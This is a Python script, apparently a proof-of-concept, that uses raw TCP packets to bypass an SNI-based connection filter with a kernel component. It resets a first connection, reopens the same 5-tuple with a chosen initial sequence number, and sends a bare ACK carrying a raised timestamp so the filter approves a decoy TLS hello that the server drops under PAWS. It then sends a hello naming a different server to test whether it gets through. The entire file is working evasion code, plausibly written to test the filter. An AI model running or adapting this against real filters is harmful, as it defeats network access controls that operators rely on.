#!/usr/bin/env python3
"""earlyproof.py: a forged proof from the early table (--kernel-sni).

  earlyproof.py DST [--sni a.test] [--sni2 b.test] [--gap S]

Connection A (source port P, ISN Ia): handshake, a hello for --sni, the
server answers (its packets under the verify mark are copied; those read
after A's proof land in the early table, keyed by the 5-tuple, with
ack = Ia + 1 + len(helloA)), then A is reset.
Connection B, same 5-tuple, within GW_EARLY_MS: ISN chosen so that its
hello for --sni ends exactly at A's acknowledged number. A bare ACK raises
the server's timestamp (it passes in the kernel), then the hello for
--sni with an older timestamp: the kernel program approves it, the server
drops it (PAWS), and sluiced, deciding its copy, finds A's ACK in the early
table and takes it for B's proof: allow mark. Then the hello for --sni2
over the same bytes: does it reach the server?
"""
import argparse
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rawtcp  # noqa: E402
from rawtcp import ACK, PSH, RST, Conn, swap_name, tls12_hello  # noqa: E402


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("--dport", type=int, default=443)
    ap.add_argument("--sni", default="a.test")
    ap.add_argument("--sni2", default="b.test")
    ap.add_argument("--gap", type=float, default=0.3)
    ap.add_argument("--wait", type=float, default=3.0)
    ap.add_argument("--a-split", action="store_true")
    ap.add_argument("--trick", default="ackpaws")
    ap.add_argument("--a-rst-now", action="store_true")
    ap.add_argument("--no-a", action="store_true",
                    help="control: skip connection A")
    a = ap.parse_args()

    c = Conn(a.dst, a.dport, timestamps=True)
    if a.trick == "oldack":
        c.win = 1024
    words = []
    try:
        hello_a = tls12_hello(a.sni)
        if not a.no_a:
            hs = c.handshake()
            if hs:
                print("result=A-" + hs)
                return
            if a.a_split:
                # two segments: the queue's path, not the program's
                c.send(0, hello_a[:50])
                c.send(50, hello_a[50:])
            else:
                c.send(0, hello_a)
            if a.a_rst_now:
                # the reset right behind the hello: sluiced frees A's
                # hold on it, and the server's ACK of the hello, copied
                # under the verify mark, is read with no hold: kept
                c.send(len(hello_a), b"", flags=RST | ACK)
                time.sleep(0.2)
            else:
                c.read(1.0)
                words.append("A=" + " ".join(c.outcome()).replace(" ", ","))
                # end A: a reset at the server's next byte
                c.send(len(hello_a), b"", flags=RST | ACK)
            time.sleep(a.gap)
        hello_b = tls12_hello(a.sni)
        real = swap_name(hello_b, a.sni, a.sni2)
        # B: its hello ends where A's did
        c.isn = (c.isn + len(hello_a) - len(hello_b)) & 0xFFFFFFFF
        c.rcv = None
        c.reset = False
        c.got = {}
        c.tsval += 1000
        hs = c.handshake()
        if hs:
            print("result=B-" + hs)
            return
        if a.trick == "ackpaws":
            high = c.tsval + 0x40000000
            # a bare ACK raising the server's timestamp (kernel: bare ACK
            # rule)
            c.send_ip(c.segment(c.isn + 1, ACK, opts=c.ts_opt(high)))
            time.sleep(0.1)
            # the decoy, older: approved by the program, dropped by the
            # server
            c.send(0, hello_b)
            c.tsval = high
        else:
            # oldack: an ACK number further back than the window offered
            rcv = c.rcv
            c.rcv = (rcv - 5000) & 0xFFFFFFFF
            c.send(0, hello_b)
            c.rcv = rcv
        time.sleep(a.gap)
        c.send(0, real)
        c.read(a.wait)
        print(" ".join(c.outcome() + words + ["sport=%d" % c.sport]))
    finally:
        c.close()


if __name__ == "__main__":
    main()
